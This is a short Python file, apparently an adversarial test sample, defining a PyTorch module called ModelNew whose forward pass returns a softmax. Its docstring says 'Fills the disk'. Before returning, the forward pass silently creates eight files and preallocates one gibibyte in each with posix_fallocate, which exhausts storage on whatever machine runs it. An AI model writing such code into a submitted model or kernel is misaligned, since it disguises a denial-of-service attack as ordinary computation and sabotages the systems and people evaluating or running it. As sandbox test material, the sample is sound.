"""Fills the disk."""

import os
from pathlib import Path

import torch
from torch import nn


class ModelNew(nn.Module):
    def forward(self, x):
        for number in range(8):
            with Path(f"filler{number}").open("wb") as file:
                os.posix_fallocate(file.fileno(), 0, 1 << 30)
        return torch.softmax(x, dim=1)
